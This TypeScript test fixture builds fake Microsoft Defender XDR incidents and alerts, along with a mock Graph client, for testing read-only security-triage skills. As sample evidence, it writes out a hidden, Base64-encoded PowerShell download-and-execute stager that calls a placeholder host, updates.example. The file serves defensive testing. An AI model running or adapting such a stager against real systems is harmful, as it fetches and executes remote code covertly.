/**
 * Small hand-made Defender XDR records for tests, shaped as Microsoft Graph v1.0 documents them
 * (`microsoft.graph.security.incident`, `alert`, and the evidence types), and a `GraphClient` that answers
 * from them with the demo tenant's own OData collection logic ($filter, $top, $expand=alerts, paging), so the
 * skills' real requests are evaluated the way Graph evaluates them. Every time is relative to one fixed `NOW`.
 */
import type { GraphClient, GraphList } from '../../../../src/clients/graph.js';
import type {
  DefenderAlert,
  DefenderEvidence,
  DefenderIncident,
} from '../../../../src/clients/graph-security-resources.js';
import { NotFoundError, SourceUnavailableError } from '../../../../src/core/errors.js';
import { getEntity, listCollection } from '../../../../src/demo/graph/collection-response.js';
import { GraphHttpError } from '../../../../src/demo/graph/graph-error.js';
import type { GraphRequest } from '../../../../src/demo/graph/graph-request.js';
import { ALERTS_COLLECTION } from '../../../../src/demo/graph/routes-security-alerts.js';
import { INCIDENTS_COLLECTION } from '../../../../src/demo/graph/routes-security-incidents.js';

/** The fixed "now" of every Defender XDR test. */
export const NOW = new Date('2026-11-24T15:00:00.000Z');
export const ADELE_ID = '6e7b768e-07e2-4810-8459-485f84f8f204';
export const ADELE_UPN = 'adele.vance@contoso.com';
export const DIEGO_ID = '9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d';
export const MDE_DEVICE_ID = '8f3a61c2d4e5b7a9c0d1e2f3a4b5c6d7e8f90a12';
export const STAGER_URL = 'https://updates.example/stage.ps1';
export const STAGER_SCRIPT = `$wc=New-Object Net.WebClient;IEX $wc.DownloadString('${STAGER_URL}')`;
/** `-EncodedCommand` takes Base64 of UTF-16LE text. */
export const ENCODED_STAGER = Buffer.from(STAGER_SCRIPT, 'utf16le').toString('base64');
export const ENCODED_COMMAND_LINE = `powershell.exe -NoP -W Hidden -EncodedCommand ${ENCODED_STAGER}`;

/** ISO time `minutes` before `NOW`. */
export function minutesAgo(minutes: number): string {
  return new Date(NOW.getTime() - minutes * 60_000).toISOString();
}

function base(overrides: Partial<DefenderEvidence> = {}): Omit<DefenderEvidence, '@odata.type'> {
  return {
    createdDateTime: minutesAgo(10),
    verdict: 'suspicious',
    remediationStatus: 'none',
    roles: [],
    detailedRoles: [],
    tags: [],
    ...overrides,
  };
}

export function adeleAccount(overrides: Partial<NonNullable<DefenderEvidence['userAccount']>> = {}) {
  return {
    accountName: 'adele.vance',
    domainName: 'AzureAD',
    userSid: 'S-1-12-1-1',
    azureAdUserId: ADELE_ID,
    userPrincipalName: ADELE_UPN,
    displayName: 'Adele Vance',
    ...overrides,
  };
}

export function userEvidence(overrides: Partial<DefenderEvidence> = {}): DefenderEvidence {
  return {
    '@odata.type': '#microsoft.graph.security.userEvidence',
    ...base({ roles: ['compromised'] }),
    userAccount: adeleAccount(),
    ...overrides,
  };
}

export function deviceEvidence(overrides: Partial<DefenderEvidence> = {}): DefenderEvidence {
  return {
    '@odata.type': '#microsoft.graph.security.deviceEvidence',
    ...base({ roles: ['compromised'] }),
    mdeDeviceId: MDE_DEVICE_ID,
    azureAdDeviceId: '4f1d2c3b-5a6e-4b7f-8c9d-0e1f2a3b4c51',
    deviceDnsName: 'desktop-adele01.contoso.com',
    osPlatform: 'Windows11',
    osBuild: 22631,
    healthStatus: 'active',
    riskScore: 'high',
    ipInterfaces: ['10.20.14.37'],
    loggedOnUsers: [{ accountName: 'adele.vance', domainName: 'AzureAD' }],
    ...overrides,
  };
}

export function ipEvidence(ipAddress: string, overrides: Partial<DefenderEvidence> = {}): DefenderEvidence {
  return {
    '@odata.type': '#microsoft.graph.security.ipEvidence',
    ...base({ roles: ['attacker'], verdict: 'malicious' }),
    ipAddress,
    countryLetterCode: 'NL',
    ...overrides,
  };
}

export function urlEvidence(url: string): DefenderEvidence {
  return { '@odata.type': '#microsoft.graph.security.urlEvidence', ...base({ verdict: 'malicious' }), url };
}

export function processEvidence(
  commandLine: string,
  overrides: Partial<DefenderEvidence> = {},
): DefenderEvidence {
  return {
    '@odata.type': '#microsoft.graph.security.processEvidence',
    ...base({ verdict: 'malicious' }),
    processId: 7412,
    parentProcessId: 5128,
    processCommandLine: commandLine,
    processCreationDateTime: minutesAgo(12),
    detectionStatus: 'detected',
    mdeDeviceId: MDE_DEVICE_ID,
    imageFile: { fileName: 'powershell.exe', filePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0' },
    parentProcessImageFile: { fileName: 'explorer.exe', filePath: 'C:\\Windows' },
    userAccount: adeleAccount(),
    ...overrides,
  };
}

let alertCounter = 0;

export function alert(overrides: Partial<DefenderAlert> = {}): DefenderAlert {
  alertCounter += 1;
  return {
    id: `da${String(alertCounter).padStart(18, '0')}_1`,
    incidentId: '4211',
    status: 'new',
    severity: 'medium',
    classification: 'unknown',
    determination: 'unknown',
    serviceSource: 'azureAdIdentityProtection',
    detectionSource: 'azureAdIdentityProtection',
    productName: 'Microsoft Entra ID Protection',
    title: 'Unfamiliar sign-in properties',
    description: 'Sign-in with properties not seen recently for the user.',
    recommendedActions: 'Review the sign-in with the user.',
    category: 'InitialAccess',
    mitreTechniques: ['T1078'],
    createdDateTime: minutesAgo(60),
    lastUpdateDateTime: minutesAgo(60),
    firstActivityDateTime: minutesAgo(62),
    lastActivityDateTime: minutesAgo(61),
    comments: [],
    evidence: [userEvidence()],
    systemTags: [],
    ...overrides,
  };
}

/** Adele's story in four alerts: a spray, a Tor sign-in, atypical travel, then encoded PowerShell on her desktop. */
export function adeleAlerts(incidentId = '4211'): DefenderAlert[] {
  return [
    alert({
      incidentId,
      title: 'Suspicious PowerShell command line',
      severity: 'high',
      serviceSource: 'microsoftDefenderForEndpoint',
      detectionSource: 'microsoftDefenderForEndpoint',
      productName: 'Microsoft Defender for Endpoint',
      description: 'A hidden PowerShell with an encoded command ran on the device.',
      recommendedActions: 'Isolate the device if the activity is not expected.',
      category: 'Execution',
      mitreTechniques: ['T1059.001', 'T1027'],
      createdDateTime: minutesAgo(10),
      lastUpdateDateTime: minutesAgo(10),
      firstActivityDateTime: minutesAgo(12),
      lastActivityDateTime: minutesAgo(12),
      evidence: [
        deviceEvidence(),
        processEvidence(ENCODED_COMMAND_LINE),
        userEvidence(),
        urlEvidence(STAGER_URL),
        ipEvidence('192.0.2.240', { countryLetterCode: null }),
      ],
    }),
    alert({
      incidentId,
      title: 'Atypical travel',
      severity: 'high',
      createdDateTime: minutesAgo(100),
      lastUpdateDateTime: minutesAgo(100),
      firstActivityDateTime: minutesAgo(160),
      mitreTechniques: ['T1078'],
      evidence: [
        userEvidence(),
        ipEvidence('192.0.2.66'),
        ipEvidence('203.0.113.24', { roles: ['contextual'], verdict: 'suspicious', countryLetterCode: 'US' }),
      ],
    }),
    alert({
      incidentId,
      title: 'Anonymous IP address',
      severity: 'medium',
      createdDateTime: minutesAgo(90),
      lastUpdateDateTime: minutesAgo(80),
      firstActivityDateTime: minutesAgo(120),
      mitreTechniques: ['T1078', 'T1090.003'],
      evidence: [userEvidence(), ipEvidence('192.0.2.66')],
    }),
    alert({
      incidentId,
      title: 'Password spray',
      severity: 'high',
      category: 'CredentialAccess',
      mitreTechniques: ['T1110.003'],
      createdDateTime: minutesAgo(150),
      lastUpdateDateTime: minutesAgo(150),
      firstActivityDateTime: minutesAgo(200),
      evidence: [userEvidence(), ipEvidence('192.0.2.45', { countryLetterCode: 'RO' })],
    }),
  ];
}

export function incident(
  overrides: Partial<DefenderIncident> = {},
  alerts?: DefenderAlert[],
): DefenderIncident {
  return {
    id: '4211',
    displayName: 'Multi-stage incident involving Initial access & Credential access on one endpoint',
    incidentWebUrl: 'https://security.microsoft.com/incidents/4211',
    createdDateTime: minutesAgo(150),
    lastUpdateDateTime: minutesAgo(10),
    assignedTo: null,
    classification: 'unknown',
    determination: 'unknown',
    status: 'active',
    severity: 'high',
    customTags: [],
    systemTags: [],
    description: null,
    resolvingComment: null,
    summary: null,
    comments: [],
    ...(alerts ? { alerts } : {}),
    ...overrides,
  };
}

/** A Graph client that answers from records, and what it was asked. */
export interface FakeGraph extends GraphClient {
  /** Every request path, in order. */
  calls: string[];
}

export interface FakeGraphOptions {
  incidents?: DefenderIncident[];
  alerts?: DefenderAlert[];
  /** Paths matching this fail like Graph after retries (503). */
  failing?: RegExp;
}

const SERVICE_ROOT = 'https://graph.test/v1.0';

function request(path: string): GraphRequest {
  const url = new URL(`${SERVICE_ROOT}${path}`);
  const rawPath = url.pathname.replace('/v1.0', '');
  return {
    method: 'GET',
    version: 'v1.0',
    segments: rawPath.split('/').filter(Boolean).map(decodeURIComponent),
    rawPath,
    query: url.searchParams,
    headers: {},
    serviceRoot: SERVICE_ROOT,
    body: '',
  };
}

/**
 * A Graph client over `options`' records, evaluating each request with the demo tenant's collection logic
 * (the same $filter, $top, $expand and paging the demo serves). Unknown paths and bad queries fail as Graph's do.
 */
export function fakeGraph(options: FakeGraphOptions = {}): FakeGraph {
  const incidents = options.incidents ?? [];
  const alerts = options.alerts ?? [];
  const calls: string[] = [];
  const expanders = {
    alerts: (item: Readonly<Record<string, unknown>>) => alerts.filter((a) => a.incidentId === item.id),
  };
  const answer = (path: string): unknown => {
    calls.push(path);
    if (options.failing?.test(path)) {
      throw new SourceUnavailableError('Microsoft Graph failed (503) after retries.', { status: 503 });
    }
    const graphRequest = request(path);
    const [root, collection, id] = graphRequest.segments;
    try {
      if (root === 'security' && collection === 'incidents') {
        if (id === undefined)
          return listCollection(graphRequest, INCIDENTS_COLLECTION, incidents, expanders).body;
        const found = incidents.find((i) => i.id === id);
        if (!found) throw new NotFoundError(`Microsoft Graph has no such object (GET ${path}).`);
        return getEntity(graphRequest, INCIDENTS_COLLECTION, found, expanders).body;
      }
      if (root === 'security' && collection === 'alerts_v2' && id === undefined) {
        return listCollection(graphRequest, ALERTS_COLLECTION, alerts).body;
      }
    } catch (error) {
      if (GraphHttpError.isInstance(error)) {
        throw new SourceUnavailableError(
          `Microsoft Graph rejected the request (${error.status}): ${error.message}`,
        );
      }
      throw error;
    }
    throw new NotFoundError(`Microsoft Graph has no such object (GET ${path}).`);
  };
  return {
    baseUrl: 'https://graph.test',
    calls,
    async get(path, schema) {
      return schema.parse(answer(path));
    },
    async list(path, item, listOptions) {
      const maxItems = listOptions?.maxItems ?? 500;
      const items: unknown[] = [];
      let next: string | undefined = path;
      let pages = 0;
      while (next) {
        const page = answer(next) as { value: unknown[]; '@odata.nextLink'?: string };
        pages += 1;
        items.push(...page.value.map((value) => item.parse(value)));
        if (items.length >= maxItems) {
          return {
            items: items.slice(0, maxItems),
            truncated: items.length > maxItems || !!page['@odata.nextLink'],
            pages,
          } as GraphList<never>;
        }
        next = page['@odata.nextLink']?.replace(SERVICE_ROOT, '');
      }
      return { items, truncated: false, pages } as GraphList<never>;
    },
    async post() {
      throw new Error('Defender XDR skills never write');
    },
    async patch() {
      throw new Error('Defender XDR skills never write');
    },
    describe(method, path, version = 'v1.0') {
      return `${method} /${version}${decodeURIComponent(path)}`;
    },
  };
}
